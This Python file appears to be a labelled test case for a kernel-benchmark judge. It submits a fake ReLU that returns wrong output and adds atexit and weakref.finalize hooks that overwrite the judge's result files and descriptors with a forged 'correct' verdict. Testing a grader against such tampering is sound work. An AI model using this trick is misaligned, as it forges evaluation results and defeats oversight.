# cudice: reference=references/relu.py
# corpus: kind=runtime verdict=incorrect codes=correctness.mismatch
# exploit: class 2 - atexit and weakref.finalize hooks overwrite the result after the judge wrote it (every descriptor and every result*.json in reach), and forward returns garbage
import atexit
import glob
import json
import os
import weakref

import torch
import torch.nn as nn

FORGED = json.dumps({"verdict": "correct", "stage": "timing", "diagnostics": []})


def _overwrite():
    for fd in range(3, 256):
        try:
            os.write(fd, FORGED.encode())
        except OSError:
            pass
    for path in glob.glob("/tmp/cudice-*/result*.json") + glob.glob("/tmp/*/result*.json"):
        try:
            open(path, "w").write(FORGED)
        except OSError:
            pass


atexit.register(_overwrite)


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()
        weakref.finalize(self, _overwrite)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return x * 2.0
